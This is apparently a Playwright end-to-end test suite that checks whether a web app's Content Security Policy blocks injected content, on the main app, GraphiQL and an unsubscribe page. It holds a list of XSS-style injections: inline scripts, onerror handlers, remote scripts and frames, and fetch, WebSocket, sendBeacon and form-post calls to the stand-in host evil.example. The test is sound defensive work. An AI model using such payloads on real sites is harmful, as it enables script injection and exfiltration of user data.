"""What got into a page from outside does not run there, and sends nothing away; and the pages need none of it."""

import asyncio

import pytest
from playwright.async_api import Browser, Page, expect

from tests.e2e.app import Window
from tests.support.server import Server

pytestmark = pytest.mark.e2e

WATCH = """
window.broken = [];
addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
  window.broken.push(`${effectiveDirective} ${blockedURI}`));
"""
#: Each as an injection would do it; what runs says so in `window.ran`.
INJECTIONS = """() => {
  window.ran = [];
  const add = (name, more, into = document.body) => {
    const element = Object.assign(document.createElement(name), more);
    into.append(element);
    return element;
  };
  add('script', { textContent: "window.ran.push('inline script')" });
  add('script', { src: "data:text/javascript,window.ran.push('script in a URL')" });
  add('script', { src: 'https://evil.example/script.js' });
  add('div', { innerHTML: '<img src="/nothing" onerror="window.ran.push(\\'handler\\')">' });
  add('div', { innerHTML: '<p style="position:fixed">' });
  add('iframe', { srcdoc: "<script>parent.ran.push('frame')</script>" });
  add('iframe', { src: 'https://evil.example/' });
  add('object', { data: '/' });
  add('img', { src: 'https://evil.example/?what-is-seen' });
  add('base', { href: 'https://evil.example/' }, document.head);
  add('link', { rel: 'stylesheet', href: 'https://evil.example/style.css' }, document.head);
  for (const target of ['https://evil.example/', 'http://127.0.0.1:9/']) fetch(target).catch(() => {});
  try { new WebSocket('wss://evil.example/'); } catch {}
  navigator.sendBeacon('https://evil.example/', 'what is seen');
  // Later, since what a debugger runs may do both.
  setTimeout(() => (0, eval)("window.ran.push('eval')"));
  setTimeout(() => new Function("window.ran.push('function')")());
  add('form', { action: 'https://evil.example/', method: 'post', target: '_blank' }).submit();
}"""
#: By the directive that stops it.
STOPPED = {
    "script-src-elem inline",
    "script-src-elem data",
    "script-src-elem https://evil.example/script.js",
    "script-src-attr inline",
    "frame-src https://evil.example",
    "img-src https://evil.example/?what-is-seen",
    "base-uri https://evil.example/",
    "style-src-elem https://evil.example/style.css",
    "connect-src https://evil.example/",
    "connect-src http://127.0.0.1:9/",
    "connect-src wss://evil.example/",
    "form-action https://evil.example/",
    "script-src eval",
}


#: Resolves once these, at least, were stopped; the policy forbids Playwright's own polling.
ARE_STOPPED = """(expected) => new Promise((resolve) => {
  const look = () =>
    expected.every((each) => window.broken.includes(each)) ? resolve() : requestAnimationFrame(look);
  look();
})"""


#: Resolves once the service worker, which has a policy of its own, answers for the page.
IS_KEPT = """() => new Promise((resolve) => {
  const look = () => (navigator.serviceWorker.controller ? resolve() : requestAnimationFrame(look));
  look();
})"""


async def broken(page: Page) -> list[str]:
    return list(await page.evaluate("window.broken"))


async def assert_nothing_runs(page: Page, stopped: set[str]) -> None:
    assert await broken(page) == []
    await page.evaluate(INJECTIONS)
    try:
        async with asyncio.timeout(10):
            await page.evaluate(ARE_STOPPED, sorted(stopped))
    except TimeoutError:
        assert stopped - set(await broken(page)) == set()
    assert await page.evaluate("window.ran") == []


async def test_the_web_app_runs_nothing_that_was_put_into_it(browser: Browser, server: Server) -> None:
    window = await Window.open(browser, server.url)
    await window.page.add_init_script(WATCH)
    await window.sign_up()
    await window.page.evaluate(IS_KEPT)
    await window.page.reload()
    await expect(window.new_task).to_be_visible()
    await assert_nothing_runs(window.page, STOPPED | {"style-src-attr inline"})


async def test_graphiql_runs_nothing_that_was_put_into_it(browser: Browser, server: Server) -> None:
    page = await browser.new_page()
    await page.add_init_script(WATCH)
    await page.goto(f"{server.url}/graphql")
    await expect(page.locator(".graphiql-query-editor .view-lines")).to_contain_text("Welcome")
    await assert_nothing_runs(page, STOPPED)


async def test_no_page_of_the_web_app_breaks_its_own_policy(browser: Browser, server: Server) -> None:
    window = await Window.open(browser, server.url)
    await window.page.add_init_script(WATCH)
    await window.sign_up()
    await window.page.evaluate(IS_KEPT)
    page = window.page
    for path, there in (
        ("/", window.new_task),
        ("/settings/", page.get_by_label("Dark")),
        ("/reset-password/#token=x", page.get_by_label("New password")),
        ("/nowhere/", page.get_by_role("heading", name="404")),
    ):
        await page.goto(f"{server.url}{path}")
        await expect(there).to_be_visible()
        assert await broken(page) == [], path
    # And what lies over a page: it brings style elements, and styles that change as it moves.
    await page.goto(server.url)
    await window.add("Milk")
    editor = await window.edit("Milk")
    await expect(editor).to_be_visible()
    await page.keyboard.press("Escape")
    await page.get_by_role("button", name="Delete “Milk”").click()
    await expect(page.get_by_role("button", name="Undo")).to_be_visible()
    await page.keyboard.press("Control+k")
    await expect(page.get_by_role("dialog")).to_be_visible()
    assert await broken(page) == []


async def test_the_page_behind_a_link_in_a_mail_runs_nothing_and_looks_as_it_should(
    browser: Browser, server: Server
) -> None:
    page = await browser.new_page()
    await page.add_init_script(WATCH)
    await page.goto(f"{server.url}/channels/unsubscribe/nonsense")
    await expect(page.get_by_role("heading")).to_have_text("This link is not good any more")
    assert await page.evaluate("getComputedStyle(document.body).maxWidth") != "none"
    same_origin = {
        each for each in STOPPED if each.startswith(("script-src", "connect", "base", "form", "frame"))
    }
    await assert_nothing_runs(page, same_origin | {"style-src-attr inline"})
